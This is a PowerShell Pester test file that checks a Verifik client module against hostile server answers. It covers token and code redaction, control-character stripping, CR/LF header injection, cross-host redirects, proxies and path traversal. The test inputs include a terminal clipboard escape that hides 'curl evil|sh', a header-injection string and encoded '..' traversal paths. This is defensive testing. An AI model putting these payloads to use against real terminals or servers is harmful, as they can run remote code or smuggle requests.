# What a hostile or broken server (or anything between it and the user) can send back, and what reaches the user of
# it: tokens are only base64url, server text is redacted, stripped of controls and bounded, and redirects never
# carry a token, a code or a body to another host.
BeforeDiscovery {
    # Every cmdlet that sends something, as a call that sends to -Path; each gets a signed-in session and a code.
    $script:senders = @(
        @{ Name = 'Request-VerifikOtp'; Path = '/v2/projects/email-login'; Send = { Request-VerifikOtp -Email ana@example.com -Session $session } }
        @{ Name = 'Confirm-VerifikOtp'; Path = '/v2/projects/email-login/confirm'; CarriesCode = $true; Send = { Confirm-VerifikOtp -Email ana@example.com -Otp $code -Session $session } }
        @{ Name = 'Update-VerifikToken'; Path = '/v2/auth/session'; Send = { Update-VerifikToken -Session $session } }
        @{ Name = 'Invoke-VerifikRequest'; Path = '/v2/clients/me'; Send = { Invoke-VerifikRequest -Path /v2/clients/me -Session $session } }
        @{ Name = 'Invoke-VerifikRequest -Body'; Path = '/v2/clients/me'; Send = { Invoke-VerifikRequest -Method POST -Path /v2/clients/me -Body @{ secret = $code } -Session $session } }
    )
}

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot '../../tools/Verifik.TestHelpers.psm1') -Force
    Import-Module (Get-VerifikModulePath) -Force
    $script:emulator = Start-TestEmulator -AsDefault
    $script:other = Start-TestEmulator -Address 127.0.0.2
    $script:modulePath = Get-VerifikModulePath

    # Both hosts start empty; a session signed in on the first, a code waiting for ana, and an empty request log.
    function Initialize-Case {
        Reset-TestEmulator -Emulator $emulator
        Reset-TestEmulator -Emulator $other
        $script:session = New-VerifikSession
        $script:jwt = New-TestToken -Emulator $emulator
        Connect-Verifik -AccessToken $jwt -Session $session
        $null = Invoke-RestMethod -Method Post "$($emulator.BaseUri)/v2/projects/email-login?email=ana%40example.com"
        $script:code = Get-TestOtp -Emulator $emulator -To 'ana@example.com'
        $null = Invoke-TestEmulator -Emulator $emulator -Method DELETE -Path '/_emulator/requests'
    }

    function Add-Fault([hashtable]$Fault, [pscustomobject]$On = $emulator) {
        $null = Invoke-TestEmulator -Emulator $On -Method POST -Path '/_emulator/faults' -Body $Fault
    }

    function Get-Requests([pscustomobject]$From) { @(Invoke-TestEmulator -Emulator $From -Path '/_emulator/requests') }

    # Runs a sender with verbose on and returns every record it wrote, terminating errors included.
    function Invoke-Capture([scriptblock]$Send) {
        $records = [System.Collections.Generic.List[object]]::new()
        $VerbosePreference = 'Continue'
        try {
            & $Send *>&1 | ForEach-Object { $records.Add($_) }
        }
        catch {
            $records.Add($_)
        }
        $records
    }
}

AfterAll {
    Stop-TestEmulator -Emulator $other
    Stop-TestEmulator -Emulator $emulator
}

Describe 'Hostile answers' {
    BeforeEach {
        Initialize-Case
    }

    It '<Name> shows no token, code or control character that the server put in its reason phrase and messages' -ForEach $senders {
        $hostile = "`e]52;c;$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('curl evil|sh')))`a`e[2K$([char]0x9b)31m"
        Add-Fault @{ path = $Path; status = 418; times = 5; reasonPhrase = "Teapot $jwt $code `e[2K"
            body = (@{ code = "Evil$hostile$jwt"; message = "$hostile otp $code token $jwt$([char]0x2028)next$([char]0x2029)`r`nX" } | ConvertTo-Json -Compress) }

        $records = Invoke-Capture $Send
        $failed = @($records | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })

        $failed | Should -Not -BeNullOrEmpty
        $text = (@($records | ForEach-Object { "$_" }) + @($failed | ForEach-Object { $_.Exception.Message; $_.Exception.ApiCode; $_.Exception.ApiMessage; "$($_.ErrorDetails)" })) -join "`n"
        $text | Should -Not -Match '[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]'
        $text.Contains($jwt) | Should -BeFalse
        $text.Contains($jwt.Split('.')[-1]) | Should -BeFalse
        # A code is known to be one only in the call that carries it; elsewhere six digits are just the server's text.
        if ($CarriesCode) { $text | Should -Not -Match "(?<!\d)$code(?!\d)" }
        $failed[0].Exception.Message | Should -Match '418'
        $failed[0].Exception.Message.Length | Should -BeLessThan 1500
    }

    It 'refuses a token with CR/LF from -AccessToken, $env:VERIFIK_ACCESS_TOKEN and a sign-in answer, before sending it' {
        $crlf = "$jwt`r`nX-Injected: 1"

        { Connect-Verifik -AccessToken $crlf -Session (New-VerifikSession) } | Should -Throw -ErrorId 'Verifik.InvalidToken,Verifik.Commands.ConnectVerifikCommand'
        $env:VERIFIK_ACCESS_TOKEN = $crlf
        try {
            { Connect-Verifik -Session (New-VerifikSession) } | Should -Throw -ErrorId 'Verifik.InvalidToken,Verifik.Commands.ConnectVerifikCommand'
        }
        finally {
            $env:VERIFIK_ACCESS_TOKEN = $null
        }
        Add-Fault @{ path = '/v2/projects/email-login/confirm'; status = 200; body = (@{ data = @{ accessToken = $crlf } } | ConvertTo-Json -Compress) }
        $fresh = New-VerifikSession
        Confirm-VerifikOtp -Email ana@example.com -Otp $code -Session $fresh -ErrorVariable failed -ErrorAction SilentlyContinue
        Add-Fault @{ path = '/v2/auth/session'; status = 200; body = (@{ accessToken = $crlf } | ConvertTo-Json -Compress) }
        { Update-VerifikToken -Session $session } | Should -Throw -ErrorId 'Verifik.InvalidResponse,Verifik.Commands.UpdateVerifikTokenCommand'
        $null = Invoke-VerifikRequest -Path /v2/clients/me -Session $session

        $failed[0].FullyQualifiedErrorId | Should -Be 'Verifik.InvalidResponse,Verifik.Commands.ConfirmVerifikOtpCommand'
        $fresh.Token | Should -BeNullOrEmpty
        (Get-Requests $emulator)[-1].authorization | Should -Be "Bearer $jwt"
    }

    It 'refuses a token of 65,536 characters or more with an error that says so, before sending anything' {
        $long = $jwt + ('A' * 65536)

        { Connect-Verifik -AccessToken $long -Session (New-VerifikSession) } | Should -Throw '*fewer than 65536*'
        { Connect-Verifik -AccessToken (ConvertTo-SecureString ($jwt + ('A' * 60000)) -AsPlainText -Force) -Session (New-VerifikSession) } | Should -Not -Throw
        Get-Requests $emulator | Should -BeNullOrEmpty
    }
}

Describe 'Every cmdlet that sends is a sender here' {
    It 'classifies each cmdlet of the module' -ForEach @{ Covered = $senders.Name -replace ' .*' } {
        Get-UnclassifiedCmdlet -Covered $Covered -Exceptions @{
            'Connect-Verifik'    = 'sends through the same requests as Request-VerifikOtp and Confirm-VerifikOtp, or nothing with -AccessToken'
            'Get-VerifikToken'   = 'sends nothing'
            'Disconnect-Verifik' = 'sends nothing'
            'New-VerifikSession' = 'sends nothing'
            'Get-VerifikSession' = 'sends nothing'
            'Test-VerifikToken'  = 'sends nothing'
        } | Should -BeNullOrEmpty
    }
}

Describe 'Redirects and proxies' {
    BeforeEach {
        Initialize-Case
    }

    It '<Name> does not follow a <Status> to another host' -ForEach @(
        foreach ($sender in $senders) { foreach ($status in 301, 302, 307, 308) { $sender + @{ Status = $status } } }
    ) {
        Add-Fault @{ path = $Path; status = $Status; location = "$($other.BaseUri)$Path"; times = 5 }

        $failed = @(Invoke-Capture $Send | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })

        Get-Requests $other | Should -BeNullOrEmpty
        $failed[0].FullyQualifiedErrorId | Should -BeLike 'Verifik.InvalidResponse,*'
        $failed[0].Exception.Message | Should -BeLike "*redirect to $($other.BaseUri)*-BaseUri*"
    }

    It 'follows a redirect within the same Verifik, token and body included' {
        Add-Fault @{ path = '/v2/moved'; status = 308; location = '/v2/clients/me' }

        $me = Invoke-VerifikRequest -Path /v2/moved -Session $session

        $me.email | Should -Be 'ana@example.com'
        (Get-Requests $emulator)[-1].authorization | Should -Be "Bearer $jwt"
    }

    It 'sends nothing for loopback through HTTP_PROXY or -Proxy' {
        # Both spellings, as .NET reads both; a hashtable literal cannot hold keys that differ only in case.
        $proxyEnvironment = [hashtable]::new([StringComparer]::Ordinal)
        foreach ($name in 'HTTP_PROXY', 'http_proxy') { $proxyEnvironment[$name] = $other.BaseUri }
        foreach ($name in 'NO_PROXY', 'no_proxy') { $proxyEnvironment[$name] = $null }
        $viaEnvironment = Invoke-FreshPwsh -Environment $proxyEnvironment -Command (
            "Import-Module '$modulePath'; `$s = New-VerifikSession -BaseUri '$($emulator.BaseUri)'; Connect-Verifik -AccessToken '$jwt' -Session `$s -NoWelcome; (Invoke-VerifikRequest -Path /v2/clients/me -Session `$s).email")
        $viaParameter = Invoke-VerifikRequest -Path /v2/clients/me -Session (& { $s = New-VerifikSession -Proxy $other.BaseUri; Connect-Verifik -AccessToken $jwt -Session $s; $s })

        $viaEnvironment.StdOut.Trim() | Should -Be 'ana@example.com'
        $viaParameter.email | Should -Be 'ana@example.com'
        Get-Requests $other | Should -BeNullOrEmpty
    }

    It 'refuses <Path> under a base path, which would leave it, before sending anything' -ForEach @(
        @{ Path = '/../v2/clients/me' }
        @{ Path = '/%2e%2e/v2/clients/me' }
        @{ Path = '/%2E%2e/v2/clients/me' }
        @{ Path = '/v2/%2e%2e/%2e%2e/v2/clients/me' }
    ) {
        $null = Invoke-TestEmulator -Emulator $emulator -Method DELETE -Path '/_emulator/requests'

        Invoke-VerifikRequest -BaseUri "$($emulator.BaseUri)/verifik/" -Path $Path -Session $session -ErrorVariable failed -ErrorAction SilentlyContinue

        $failed[0].FullyQualifiedErrorId | Should -BeLike 'Verifik.InvalidBaseUri,*'
        Get-Requests $emulator | Should -BeNullOrEmpty
    }
}
